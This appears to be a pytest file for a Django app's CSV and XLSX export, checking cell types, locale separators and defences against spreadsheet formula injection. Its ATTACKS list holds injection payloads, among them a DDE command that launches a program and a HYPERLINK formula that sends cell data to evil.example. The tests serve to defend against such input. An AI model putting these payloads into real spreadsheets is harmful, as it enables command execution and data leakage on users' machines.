"""One cell in either format: types kept, nothing that a spreadsheet would calculate."""

import io
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from django.utils.html import format_html

from arcore.ui.export.columns import Amount, typed
from arcore.ui.export.csv_file import guarded, write_csv, written
from arcore.ui.export.xlsx_file import write_xlsx
from tests.ui.export.reading import sheet_of

D = Decimal
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+33 4 72",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
]


@pytest.mark.parametrize(
    ("cell", "point", "text"),
    [
        (None, ".", ""),
        (Amount(D("1234.560"), 2), ".", "1234.56"),
        (Amount(D("1234.567"), 2), ".", "1234.567"),  # a digit that is held is never hidden
        (Amount(D("-1234.5"), 2), ",", "-1234,50"),
        (Amount(D("1000"), 0), ".", "1000"),
        (Amount(D("0"), 3), ".", "0.000"),
        (D("20.0000"), ".", "20"),
        (D("1E+3"), ".", "1000"),
        (7, ".", "7"),
        (True, ".", "yes"),
        (False, ".", "no"),
        (date(2026, 1, 5), ".", "2026-01-05"),
        (datetime(2026, 1, 5, 9, 3), ".", "2026-01-05 09:03"),  # noqa: DTZ001 (as typed gives it)
        ("Société", ".", "Société"),
    ],
)
def test_a_cell_of_csv(cell, point, text):
    assert written(cell, point) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_looks_like_a_formula_is_marked_as_text_in_csv(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Adatum", "a=b", "O'Brien", "1-2", "100"])
def test_other_text_stays_as_it_is(text):
    assert guarded(text) == text


def test_numbers_below_zero_are_no_formulas():
    assert written(Amount(D("-5"), 2)) == "-5.00"


@pytest.mark.parametrize("text", [*ATTACKS, "#N/A", "#REF!"])
def test_text_stays_text_in_xlsx(text):
    file = io.BytesIO()
    write_xlsx(file, ["=Header"], [[text]], "=Title")
    (header,), (cell,) = sheet_of(file)
    assert (header.data_type, cell.data_type) == ("s", "s")
    assert header.value == "=Header"
    assert str(cell.value).strip() == text.strip()
    assert cell.quotePrefix


def test_types_stay_types_in_xlsx():
    file = io.BytesIO()
    cells: list[Any] = [
        Amount(D("1234.56"), 2),
        Amount(D("5"), 0),
        date(2026, 1, 5),
        datetime(2026, 1, 5, 9, 3),  # noqa: DTZ001 (as typed gives it)
        True,
        7,
        D("5.5"),
        None,
        "text",
    ]
    write_xlsx(
        file, [str(n) for n in range(len(cells))], [cells], "A list: of [all] things/more"
    )
    row = sheet_of(file)[1]
    assert [cell.data_type for cell in row] == ["n", "n", "d", "d", "b", "n", "n", "n", "s"]
    assert [row[0].number_format, row[1].number_format] == ["#,##0.00", "#,##0"]
    assert row[0].value == 1234.56
    assert (row[2].value.date(), row[3].value) == (cells[2], cells[3])


def test_characters_that_no_spreadsheet_holds_are_left_out():
    file = io.BytesIO()
    write_xlsx(file, ["x"], [["a\x00b\x0bc\ufffe"], ["y" * 40_000]], "\x00")
    rows = sheet_of(file)
    assert rows[1][0].value == "abc"
    assert len(rows[2][0].value) == 32_767


@pytest.mark.parametrize(
    ("language", "line"), [("en", "a;b,1.50\r\n"), ("fr", '"a;b";1,50\r\n')]
)
def test_csv_is_separated_as_the_reader_s_spreadsheet_expects(language, line):
    file = io.BytesIO()
    with translation.override(language):
        write_csv(file, ["Text", "Amount"], [["a;b", Amount(D("1.5"), 2)]])
    content = file.getvalue().decode()
    assert content.startswith("\ufeffText")
    assert content.endswith(line)


def test_markup_is_left_out_and_typed_markup_is_kept():
    assert typed(format_html('<a href="/x">{}</a> <b>EUR</b>', "R&D <b>")) == "R&D <b> EUR"
    assert typed("<b>Adatum</b> & Co") == "<b>Adatum</b> & Co"
